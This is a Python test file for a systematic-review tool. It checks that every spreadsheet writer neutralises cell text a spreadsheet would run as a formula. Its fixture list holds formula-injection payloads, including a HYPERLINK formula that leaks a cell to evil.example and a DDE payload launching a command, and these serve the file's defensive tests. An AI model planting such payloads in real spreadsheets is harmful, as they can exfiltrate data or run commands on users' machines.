"""Text that a spreadsheet would run as a formula (=, +, -, @ at the start, after blanks, or after a
tab or line break) is neutralised in every sheet we write for people, whoever wrote the text: a
database's title, a full text's sentence, a reviewer's note carried into a regenerated sheet."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from reviewflow.dedup.review import write_review_sheet
from reviewflow.extract.appraisal import write_appraisal_sheet, write_consensus_sheet
from reviewflow.extract.run import run_extraction_sheet
from reviewflow.fsio import write_csv, write_jsonl
from reviewflow.fulltext.retrieval import make_retrieval_sheet
from reviewflow.records import Author, Provenance, Record
from reviewflow.screen.stages import make_conflicts, make_sheets
from reviewflow.sheets import Column, read_sheet, write_sheet
from reviewflow.synthesis.cerqual import write_cerqual_sheet
from reviewflow.synthesis.sheet import write_coding_sheet

from ..conftest import ROOT
from ..faults.people import fill
from .kinds import FT, TA

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)",
         "  =1+1", "\t=1", "\r=1", "\n@x", "'=already quoted", "''=twice quoted", "=", "-", "- a list item"]
SIGNS = ("=", "+", "-", "@")


def _dangerous(text: str) -> bool:
    """What a spreadsheet could read as a formula (our own test of it, not the library's)."""
    return text.startswith(("\t", "\r", "\n")) or text.lstrip(" \t\r\n").startswith(SIGNS)


def assert_neutralised(path: Path) -> int:
    """No formula anywhere in the workbook, no cell text a spreadsheet would run, only web links;
    the number of text cells checked."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                tree = fromstring(zf.read(name))
                assert not [e for e in tree.iter() if e.tag.endswith("}f")], f"{path.name}:{name} has a formula"
    wb = openpyxl.load_workbook(path)
    checked = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    checked += 1
                    assert not _dangerous(cell.value), (path.name, ws.title, cell.coordinate, cell.value)
                if cell.hyperlink is not None:
                    assert cell.hyperlink.target.startswith(("https://", "http://", "mailto:")), cell.hyperlink.target
    return checked


def _bib(i: int, text: str) -> dict:
    return {"record_id": f"r{i:02d}", "title": text, "abstract": text, "authors": text, "year": text,
            "journal": text, "doi": text}


# ----------------------------------------------------------------- the one writer, generated


def _kept(text: str) -> str:
    """What of `text` a sheet can hold: XML 1.0 has no place for most control characters."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


# Any text; control characters too (dropped from sheets: XML cannot hold them).
_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
_NASTY = st.one_of(st.sampled_from(NASTY), st.tuples(st.sampled_from(["", " ", "\t", "\n", "'", "  ", "\r\n"]),
                                                      st.sampled_from(SIGNS), _TEXT).map("".join))


@settings(max_examples=30, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(_NASTY, min_size=3, max_size=8), choice=_NASTY)
def test_any_formula_text_in_any_kind_of_column_is_neutralised(tmp_path: Path, texts: list[str], choice: str) -> None:
    cols = [Column("record_id", "Record ID"), Column("plain", _kept(texts[0])), Column("link", "Link", link=True),
            Column("hl", "Highlighted", highlight=True, wrap=True),
            Column("pick", "Pick", choices=(choice, "other, with a comma"), editable=True),
            Column("note", "Note", editable=True)]
    rows = [{"record_id": f"r{i}", "plain": t, "link": t, "hl": t, "note": t} for i, t in enumerate(texts)]
    path = tmp_path / "s.xlsx"
    write_sheet(path, cols, rows, title="t", instructions=texts, highlight_terms=["sum", "1", "calc"])
    assert assert_neutralised(path) >= 4 * len(texts)
    # Read back, each cell is the text that was written (less surrounding blanks): only our quote goes.
    back = read_sheet(path, cols)
    for i, t in enumerate(texts):
        got = back.rows[f"r{i}"]
        assert got["plain"] == got["link"] == got["hl"] == got["note"] == _kept(t).replace("\r", "\n").strip()


# ----------------------------------------------------------------- every writer we have


@pytest.mark.parametrize("text", NASTY)
def test_every_sheet_writer_neutralises_titles_and_text(tmp_path: Path, text: str) -> None:
    paths: list[Path] = []

    def out(name: str) -> Path:
        paths.append(tmp_path / name)
        return paths[-1]

    rows = [_bib(i, text) for i in range(3)]
    # Screening and full-text reviewer sheets, and a regenerated one carrying a reviewer's note.
    make_sheets(TA, rows, tmp_path / "q.jsonl", {"A": out("ta_A.xlsx"), "B": out("ta_B.xlsx")})
    back = fill(paths[0], tmp_path / "dec" / "reviewer_A.xlsx", {"r00": {"Decision": "include", "Note": text}})
    make_sheets(TA, rows, tmp_path / "q.jsonl", {"A": out("ta_A2.xlsx"), "B": out("ta_B2.xlsx")}, [back])
    make_sheets(FT, [{**r, "fulltext": text} for r in rows], tmp_path / "f.jsonl",
                {"A": out("ft_A.xlsx"), "B": out("ft_B.xlsx")})
    # The adjudication sheet: both reviewers disagree on every record.
    a = fill(paths[0], tmp_path / "dec" / "a.xlsx", {f"r{i:02d}": {"Decision": "include", "Note": text}
                                                     for i in range(3)})
    b = fill(paths[1], tmp_path / "dec" / "b.xlsx", {f"r{i:02d}": {"Decision": "exclude", "Note": text}
                                                     for i in range(3)})
    make_conflicts(TA, tmp_path / "q.jsonl", {"A": a, "B": b}, {"A": "a", "B": "b"}, out("adj.xlsx"),
                   tmp_path / "c.jsonl", tmp_path / "agree.json")
    # Duplicates, retrieval, coding, appraisal, consensus, CERQual.
    recs = {f"r{i:02d}": Record(f"r{i:02d}", Provenance(text, text, i, i + 1), title=text, journal=text,
                                authors=[Author(text, text)], doi=text, pages=text) for i in range(2)}
    from reviewflow.dedup.engine import UNCERTAIN, Pair

    write_review_sheet(out("pairs.xlsx"), [Pair("r00", "r01", UNCERTAIN, 0.5, text)], recs)
    make_retrieval_sheet(rows, tmp_path / "r.jsonl", out("retrieval.xlsx"))
    write_coding_sheet(out("coding.xlsx"), ["BEN.CLIENT"], [
        {"segment_id": f"r00:{i}", "record_id": "r00", "study": text, "heading": text, "kind": text, "text": text,
         "suggested": text, "basis": text, "comment": text} for i in range(2)])
    casp = [{"appraisal_id": f"s:Q{i}", "study_id": "s", "study": text, "title": text, "item": text, "comment": text}
            for i in range(2)]
    write_appraisal_sheet(out("casp.xlsx"), casp, "CASP appraisal")
    write_consensus_sheet(out("consensus.xlsx"), [{**c, "answer_A": "yes", "answer_B": "no"} for c in casp])
    write_cerqual_sheet(out("cerqual.xlsx"), [{"finding": "F1", "label": text, "n_studies": 1,
                                               "explanation": {"adequacy": text}, "proposed": {"adequacy": text}}])
    for path in paths:
        assert assert_neutralised(path) > 0, path.name


def test_the_extraction_sheet_neutralises_what_it_read_from_a_full_text(tmp_path: Path) -> None:
    text = "=cmd|' /C calc'!A0"
    rec = Record("r01", Provenance("db", "f", 0, 1), title=text, authors=[Author("-Lee", "K")], year=2020)
    write_jsonl(tmp_path / "unique.jsonl", [rec.to_dict()])
    full = tmp_path / "r01.txt"
    full.write_text(f"{text}\n\nMethods\nThe study was conducted in {text} with 12 participants.\n", encoding="utf-8")
    write_csv(tmp_path / "assess.csv", ["record_id", "decision"], [{"record_id": "r01", "decision": "include"}])
    write_csv(tmp_path / "retrieval.csv", ["record_id", "file"], [{"record_id": "r01", "file": str(full)}])
    sheet = tmp_path / "extraction.xlsx"
    run_extraction_sheet({"extraction": {"fields": ["study_id", "first_author", "country", "setting"]}},
                         tmp_path / "unique.jsonl", tmp_path / "assess.csv", tmp_path / "retrieval.csv",
                         tmp_path / "q.jsonl", sheet)
    assert assert_neutralised(sheet) > 0
    assert openpyxl.load_workbook(sheet).worksheets[0]["B2"].value == "'" + text


def test_no_module_writes_a_workbook_but_the_sheet_writer() -> None:
    """Every XLSX for people goes through sheets.write_sheet (its openpyxl half, sheet_xlsx.py), where
    text is neutralised."""
    writers = sorted(str(p.relative_to(ROOT)) for p in (ROOT / "src" / "reviewflow").rglob("*.py")
                     if any(s in p.read_text(encoding="utf-8") for s in ("Workbook(", ".to_excel(", "xlsxwriter")))
    assert writers == ["src/reviewflow/sheet_xlsx.py"]
